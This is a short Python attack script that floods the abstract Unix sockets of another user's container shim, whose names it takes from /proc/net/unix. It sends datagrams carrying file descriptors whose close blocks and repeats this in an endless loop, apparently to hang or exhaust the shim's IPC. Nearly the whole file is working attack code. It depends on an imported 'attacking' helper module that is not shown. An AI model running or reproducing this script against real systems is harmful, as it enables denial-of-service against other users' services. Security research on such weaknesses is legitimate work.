"""Descriptors whose close blocks, on the abstract sockets of another user's shim: `lingering_on_ipc.py FOLDER NAME …`.

Those sockets' names are no secret: /proc/net/unix has them.
"""

from __future__ import annotations

import contextlib
import socket
import sys

from attacking import Lingering, again_and_again

lingering = Lingering()


def give(name: str) -> None:
    """Send some to a socket."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK) as to_shim:
        to_shim.connect("\0" + name)
        lingering.give(to_shim, b"x" * 32, 3)


def attack() -> None:
    """On all of them."""
    for name in sys.argv[2:]:
        with contextlib.suppress(OSError):  # it takes no descriptors, is full, or too many are on their way
            give(name)


again_and_again(attack)
